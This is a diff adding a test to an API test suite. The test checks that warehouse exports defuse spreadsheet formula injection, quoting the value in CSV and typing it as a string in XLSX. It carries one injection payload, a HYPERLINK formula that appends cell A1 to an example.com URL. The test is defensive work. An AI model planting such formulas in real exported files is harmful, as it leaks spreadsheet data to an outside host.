@@ -101,6 +101,33 @@ describe("GET /api/base/warehouses/export (issue 14 §6)", () => {
     expect(store().get<{ n: number }>(`SELECT COUNT(*) AS n FROM _list_exports`)!.n).toBe(before);
   });
 
+  it("writes a formula-looking cell as text in CSV and as a string cell in XLSX; a negative number stays as it is", async () => {
+    const [first, second] = store().all<{ id: number; warehouse_name: string }>(
+      "SELECT id, warehouse_name FROM warehouses ORDER BY id LIMIT 2",
+    );
+    const formula = '=HYPERLINK("http://example.com/?x="&A1,"click")';
+    const rename = (id: number, name: string) =>
+      store().run("UPDATE warehouses SET warehouse_name = ? WHERE id = ?", [name, id]);
+    rename(first.id, formula);
+    rename(second.id, "-12.5");
+    try {
+      const csv = parse((await exported(admin, { format: "csv", lang: "en", sort: "id" })).body, {
+        bom: true,
+      }) as string[][];
+      const nameColumn = csv[0].findIndex((label) => /name/i.test(label));
+      expect(csv[1][nameColumn]).toBe(`'${formula}`);
+      expect(csv[2][nameColumn]).toBe("-12.5");
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load((await exported(admin, { format: "xlsx", sort: "id" })).rawPayload as never);
+      const cell = workbook.worksheets[0].getRow(2).getCell(nameColumn + 1);
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.value).toBe(formula);
+    } finally {
+      rename(first.id, first.warehouse_name);
+      rename(second.id, second.warehouse_name);
+    }
+  });
+
   it.each([
     [{ format: "pdf" }, "format"],
     [{ lang: "fr" }, "lang"],
